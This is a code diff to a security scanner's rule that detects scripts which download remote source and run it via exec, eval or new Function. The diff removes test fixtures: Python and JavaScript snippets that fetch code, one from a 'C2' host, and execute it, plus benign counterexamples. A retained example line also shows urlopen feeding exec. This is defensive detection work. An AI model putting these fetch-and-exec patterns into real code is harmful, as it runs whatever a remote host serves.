@@ -15,18 +15,6 @@ export const rceFetchExecFlowRule: Rule = {
     rationale:
       'A bundled script that downloads source and passes it to exec/eval/compile/new Function runs whatever the remote host serves today, invisible to anyone reviewing the skill. Detected as a fetch and an exec within a few lines of one script.',
     example: 'src = urlopen(URL).read(); exec(compile(src, "x", "exec"))',
-    fixtures: {
-      positive: [
-        { path: 'p.py', text: 'import urllib.request\nsrc = urllib.request.urlopen(U).read().decode()\nexec(compile(src, "x", "exec"))\n' },
-        { path: 'u.js', text: 'const r = await fetch(u);\nconst code = await r.text();\nnew Function(code)();\n' },
-        { path: 'm.py', text: 'import requests\nr = requests.get(C2)\nexec(r.text)\n' },
-      ],
-      negative: [
-        { path: 'a.py', text: 'import requests\nr = requests.get(API)\nprint(r.json())\n' },
-        { path: 'b.js', text: 'const r = await fetch(u);\nconsole.log(await r.json());\n' },
-        { path: 'c.py', text: 'expr = "1+1"\nprint(eval(expr))\n' },
-      ],
-    },
   },
   regexes: [FETCH_RE, EXEC_RE],
   match(ctx) {
